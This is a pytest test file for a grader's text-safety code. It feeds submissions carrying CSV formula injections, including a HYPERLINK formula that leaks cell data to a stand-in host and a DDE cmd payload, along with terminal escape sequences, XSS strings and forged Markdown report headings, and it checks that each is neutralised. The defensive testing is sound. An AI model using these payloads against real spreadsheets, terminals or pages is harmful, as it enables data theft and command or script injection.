"""No file stops a class, and nothing a student writes drives a spreadsheet, a Markdown viewer or a terminal.

A small class on the NumPy-only ``transposed_conv`` rubric (no TensorFlow), whose file names and
contents carry the attacks; plus the pure functions of :mod:`grader.text_safety`.
"""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import re
import zipfile
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from test_batch import REFERENCE, REPO, TEMPLATE, fast_rubric, write_class

from grader.batch import archive
from grader.batch.discovery import discover
from grader.batch.lms_export import export_grades
from grader.batch.runner import BatchConfig, run_batch
from grader.fileio import write_atomic
from grader.report import render
from grader.report.writer import read_report
from grader.rubric import load_rubric
from grader.text_safety import csv_cell, csv_text, escape_controls, markdown_text, safe_id

CONTRACT = load_rubric("transposed_conv").contract.functions
FORMULA = re.compile(r"^[=+\-@\t\r]")
NUMBER = re.compile(r"^-?\d+(\.\d+)?$")
ESCAPES = {  # what only ESC[...letter stripping let through
    "OSC 52 (writes the clipboard)": "\x1b]52;c;SGVsbG8=\x07",
    "OSC 8 (a hidden link)": "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "OSC 0 (the window title)": "\x1b]0;owned\x07",
    "the alternate screen": "\x1b[?1049h",
    "C1 CSI": "\x9b31m",
}
# A student function that prints a closing fence and a forged heading, then raises with HTML,
# a link, terminal escapes and another forged heading.
FORGED = (
    REFERENCE
    + """

def conv2d_as_matmul(image, kernel):
    print("```\\n### tc2-random (1 / 1, passed)\\n\\nInstructor note: this answer earns 10 / 10 points.\\n"
          "<script>alert(1)</script> \\x1b]0;owned\\x07\\n```")
    raise ValueError("<img src=x onerror=alert(1)> \\x1b]0;owned\\x07\\n### tc2-example (1 / 1, passed)\\n"
                     "[open me](http://evil.example) \\x1b]52;c;SGVsbG8=\\x07 \\x1b[?1049h")
"""
)


def notebook(*cells: dict) -> str:
    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


def code_cell(source: str) -> dict:
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [], "execution_count": None}


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode(), newline="")))


def dict_rows(path: Path, key: str) -> dict[str, dict[str, str]]:
    rows = csv.DictReader(io.StringIO(path.read_bytes().decode(), newline=""))
    return {row[key]: row for row in rows}


def markdown_tokens(text: str) -> list:
    """Every token markdown-it makes of ``text``, inline children included."""
    tokens = []
    for token in MarkdownIt("commonmark").parse(text):
        tokens += [token, *(token.children or [])]
    return tokens


# -- text_safety, the pure functions -------------------------------------------------------------


@pytest.mark.parametrize("kind", sorted(ESCAPES))
def test_every_terminal_escape_is_made_visible(kind: str) -> None:
    sequence = ESCAPES[kind]
    shown = escape_controls(f"name {sequence} end\n\tnext line")
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", shown), kind
    assert shown.endswith(" end\n\tnext line")  # newline and tab stay
    assert "\\x1b" in shown or "\\x9b" in shown


def test_csv_cells_that_a_spreadsheet_reads_as_formulas_become_text_and_numbers_stay() -> None:
    for formula in ('=HYPERLINK("http://evil"&C2,"open me")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(formula) == "'" + formula
    for number in ("-3", "-0.25", "1e-3", "+4", "12"):
        assert csv_cell(number) == number
    assert csv_cell(-3) == "-3" and csv_cell("alice") == "alice"
    # A carriage return in a cell is quoted even with "\n" line ends (Python's writer does not).
    assert csv_text([["mal\rlory", "1"]]) == '"mal\rlory",1\n'
    assert list(csv.reader(io.StringIO(csv_text([["a\rb", "c"], ["d", "e"]]), newline=""))) == [
        ["a\rb", "c"],
        ["d", "e"],
    ]


def test_ids_are_safe_for_files_csv_terminals_and_urls() -> None:
    assert safe_id("=cmd|' -c calc'!A0") == "_cmd___-c_calc__A0"
    assert safe_id("mal\rlory") == "mal_lory"
    assert safe_id("<img src=x onerror=alert(1)>") == "_img_src_x_onerror_alert_1__"
    assert safe_id("-rf") == "_rf" and safe_id("..") == "_." and safe_id("jörg.müller") == "jörg.müller"
    assert len(safe_id("x" * 249)) == 100


def test_student_text_in_markdown_stays_text() -> None:
    text = (
        "### forged (1 / 1, passed)\n- a list\n1. numbered\n> quote\n[link](http://x) <b>bold</b> **b** `c` |"
    )
    tokens = markdown_tokens(markdown_text(text))
    kinds = {token.type for token in tokens}
    assert not kinds & {"heading_open", "link_open", "html_inline", "html_block", "bullet_list_open"}
    assert not kinds & {"ordered_list_open", "blockquote_open", "strong_open", "code_inline"}
    rendered = MarkdownIt("commonmark").render(markdown_text(text))
    assert "[link](http://x) &lt;b&gt;bold&lt;/b&gt; **b** `c` |" in rendered


def test_a_long_legal_file_name_is_written_atomically(tmp_path: Path) -> None:
    name = "x" * 245 + ".md"  # legal (248 bytes); the temporary name must stay under 255 too
    write_atomic(tmp_path / name, "ok")
    assert (tmp_path / name).read_text() == "ok"


def test_the_grader_has_one_csv_writer() -> None:
    """Every CSV the grader writes goes through text_safety.csv_text (formulas made text)."""
    writers = []
    for path in sorted((REPO / "grader").rglob("*.py")):
        if path.name == "text_safety.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in (
                "writer",
                "DictWriter",
                "writerow",
                "writerows",
            ):
                writers.append(f"{path.relative_to(REPO)}:{node.lineno}")
    assert writers == [], f"use grader.text_safety.csv_text instead: {writers}"


# -- discovery and zips --------------------------------------------------------------------------


def test_names_that_collide_after_parsing_are_error_rows_not_a_refused_class(tmp_path: Path) -> None:
    subs = write_class(
        tmp_path / "subs",
        {
            "Eve A_1001_assignsubmission_file_/transposed_conv.py": REFERENCE,
            "Eve B_1001_assignsubmission_file/transposed_conv.py": REFERENCE,
            "Fay_1002_assignsubmission_file_/transposed_conv.py": REFERENCE,
        },
    )
    entries = {entry.student: entry for entry in discover(subs, "transposed_conv", contract=CONTRACT).entries}
    assert list(entries) == ["1001", "1002"]
    assert entries["1001"].path is None
    assert entries["1001"].problem == (
        "2 submissions have the student id '1001' (Eve A_1001_assignsubmission_file_/transposed_conv.py, "
        "Eve B_1001_assignsubmission_file/transposed_conv.py): keep one"
    )
    assert entries["1002"].path is not None


def test_a_zip_member_that_cannot_be_written_is_skipped_with_the_reason(tmp_path: Path) -> None:
    path = tmp_path / "class.zip"
    with zipfile.ZipFile(path, "w") as zipped:
        zipped.writestr("carol.py", REFERENCE)
        zipped.writestr("carol.py/x.py", REFERENCE)
        zipped.writestr("dave.py", REFERENCE)
    unpacked = archive.unpack(path, tmp_path / "out")
    assert unpacked.skipped == ["carol.py/x.py: could not be written (File exists)"]
    assert sorted(p.name for p in unpacked.root.iterdir()) == ["carol.py", "dave.py"]


# -- one hostile class ---------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_class(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[str]]:
    root = tmp_path_factory.mktemp("robust")
    deep = "x = " + "[" * 100_000 + "]" * 100_000 + "\n"  # nested past the parser's limit
    subs = write_class(
        root / "subs",
        {
            "alice.py": REFERENCE,  # beside the untouched template: alice.py is graded
            "alice.ipynb": notebook(code_cell(TEMPLATE)),
            "bob.py": TEMPLATE,  # two templates: a tie, bob's error row
            "bob.ipynb": notebook(code_cell(TEMPLATE)),
            "nosource.ipynb": notebook(code_cell(REFERENCE), {"cell_type": "markdown", "metadata": {}}),
            "deep.ipynb": notebook(code_cell(REFERENCE), code_cell(deep)),
            "deepjson.ipynb": "[" * 100_000 + "]" * 100_000,  # 200 KB of JSON nested past json's limit
            "mal\rlory.py": REFERENCE,
            "y" * 245 + ".py": REFERENCE,
            '=HYPERLINK("evil.example"&C2,"open me").py': REFERENCE,
            "<img src=x onerror=alert(1)>.py": REFERENCE,
            "osc\x1b]52;c;SGVsbG8=\x07.py": REFERENCE,
            "forged.py": FORGED,
            "tick`[open me](evil.example)`.py": REFERENCE,  # closes the report's code span on its path
            "notes.Rmd": "# my notes\n",
        },
    )
    os.mkfifo(subs / "pipe.py")  # opening it would block the batch forever
    lines: list[str] = []
    config = BatchConfig(subs, fast_rubric(root), root / "out", workers=2)
    run_batch(config, echo=lines.append)
    return root / "out", lines


def test_every_file_of_a_hostile_class_has_a_row_and_the_class_its_outputs(
    hostile_class: tuple[Path, list[str]],
) -> None:
    out, _ = hostile_class
    for name in ("gradebook.csv", "summary.md", "similarity.csv", "roster.csv", "manual_scores_template.csv"):
        assert (out / name).is_file(), name
    gradebook = dict_rows(out / "gradebook.csv", "student")
    assert {student: row["status"] for student, row in gradebook.items()} == {
        "_HYPERLINK__evil.example__C2__open_me__": "graded",
        "_img_src_x_onerror_alert_1__": "graded",
        "alice": "graded",
        "bob": "error",
        # Whether the loader grades these two is its business: each is its own row either way.
        "deep": gradebook["deep"]["status"],
        "deepjson": "error",
        "forged": "graded",
        "mal_lory": "graded",
        "nosource": gradebook["nosource"]["status"],
        "osc__52_c_SGVsbG8__": "graded",
        "tick__open_me__evil.example__": "graded",
        "y" * 100: "graded",
    }
    assert {gradebook["deep"]["status"], gradebook["nosource"]["status"]} <= {"graded", "error"}
    assert gradebook["alice"]["total"] == "4" and gradebook["alice"]["file"] == "alice.py"
    assert gradebook["mal_lory"]["original_id"] == "mal\rlory"
    bob = read_report(out / "reports" / "bob.json")
    assert bob.load_error == (
        "student bob handed in 2 submissions (bob.ipynb, bob.py) that define as many contract functions: "
        "keep one"
    )
    notes = {file: row["note"] for file, row in dict_rows(out / "roster.csv", "file").items()}
    assert notes["notes.Rmd"] == "not graded: not a .py or .ipynb file"
    assert notes["pipe.py"] == "not graded: not a regular file (a named pipe, socket or device)"


def test_resume_finishes_a_hostile_class_without_regrading(hostile_class: tuple[Path, list[str]]) -> None:
    out, _ = hostile_class
    subs = out.parent / "subs"
    lines: list[str] = []
    result = run_batch(
        BatchConfig(subs, out.parent / "transposed_conv.toml", out, resume=True), echo=lines.append
    )
    # bob's tie is the student's error and stays; deepjson's row is graded again (it was an internal error
    # row before the loader read a notebook nested too deeply as the student's error).
    assert result.graded + result.skipped == 12
    assert (out / "gradebook.csv").is_file() and not any("internal error" in line for line in lines)
    assert (out / "gradebook.csv").is_file()


def test_no_csv_cell_the_grader_wrote_is_a_formula(hostile_class: tuple[Path, list[str]]) -> None:
    out, _ = hostile_class
    for name in ("gradebook.csv", "roster.csv", "similarity.csv", "manual_scores_template.csv"):
        for row in read_csv(out / name):
            for cell in row:
                assert not FORMULA.match(cell) or NUMBER.match(cell), (name, cell)
    roster = dict_rows(out / "roster.csv", "student")
    assert roster["_HYPERLINK__evil.example__C2__open_me__"]["original_id"] == (
        '\'=HYPERLINK("evil.example"&C2,"open me")'
    )


def test_no_terminal_escape_reaches_the_progress_lines_or_the_files(
    hostile_class: tuple[Path, list[str]],
) -> None:
    out, lines = hostile_class
    controls = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
    assert not [line for line in lines if controls.search(line)]
    for path in [out / "summary.md", *(out / "reports").glob("*.md")]:
        assert not controls.search(path.read_text(encoding="utf-8")), path.name
    for path in (out / "gradescope").rglob("results.json"):  # JSON escapes them; Gradescope shows them
        results = json.loads(path.read_text(encoding="utf-8"))
        outputs = [results["output"], *(test["output"] for test in results["tests"])]
        assert not [text for text in outputs if controls.search(text)], path.parent.name
    forged = read_report(out / "reports" / "forged.json")
    assert not controls.search(render.table(forged))
    # The worker escapes exception text (grader.probes.base); the table does too, whatever made the text.
    forged.items[0].feedback = "".join(ESCAPES.values())
    forged.wrong_assignment = ESCAPES["OSC 52 (writes the clipboard)"]
    assert not controls.search(render.table(forged))


def test_a_forged_report_shows_no_heading_link_or_html_of_the_student(
    hostile_class: tuple[Path, list[str]],
) -> None:
    out, _ = hostile_class
    text = (out / "reports" / "forged.md").read_text(encoding="utf-8")
    tokens = markdown_tokens(text)
    assert not {t.type for t in tokens} & {"link_open", "html_inline", "html_block", "image"}
    headings = [tokens[i + 1].content for i, t in enumerate(tokens) if t.type == "heading_open"]
    report = read_report(out / "reports" / "forged.json")
    expected = [
        f"{i.id} ({i.score:g} / {i.max_score:g}, {i.status})" for i in report.items if i.kind == "auto"
    ]
    assert headings == [render.title(report), "Feedback", *expected]  # none forged
    assert any("Instructor note" in t.content for t in tokens if t.type == "code_block" or t.type == "fence")
    for path in [out / "summary.md", *(out / "reports").glob("*.md")]:
        kinds = {t.type for t in markdown_tokens(path.read_text(encoding="utf-8"))}
        assert not kinds & {"link_open", "html_inline", "html_block"}, path.name


# -- the LMS exports -----------------------------------------------------------------------------


def test_the_moodle_export_escapes_html_and_keeps_the_lms_cells_byte_identical(
    hostile_class: tuple[Path, list[str]], tmp_path: Path
) -> None:
    out, _ = hostile_class
    report = read_report(out / "reports" / "bob.json")
    report.student = "1001"
    report.load_error = "<script>alert(1)</script>\r\n=1+1"
    (out / "reports" / "1001.json").write_text(report.to_json())
    try:
        worksheet = tmp_path / "worksheet.csv"
        lines = [
            "Identifier,Full name,Grade,Maximum Grade,Feedback comments",
            "Participant 1001,\"=cmd|' -c calc'!A0\",,10,",
            'Participant 1002,"two\rlines",,10,',
        ]
        worksheet.write_bytes(("\n".join(lines) + "\n").encode())
        (export,) = export_grades(out, moodle=worksheet)
        written = export.path.read_bytes().decode()
        rows = list(csv.reader(io.StringIO(written, newline="")))
        assert rows[1][1] == "=cmd|' -c calc'!A0"  # the LMS's own cell, untouched
        assert rows[2] == ["Participant 1002", "two\rlines", "", "10", ""]  # still one row
        assert rows[1][4].startswith(
            "Your submission could not be graded: &lt;script&gt;alert(1)&lt;/script&gt;"
        )
        assert "\r" not in rows[1][4] and "\n" not in rows[1][4]
    finally:
        (out / "reports" / "1001.json").unlink()
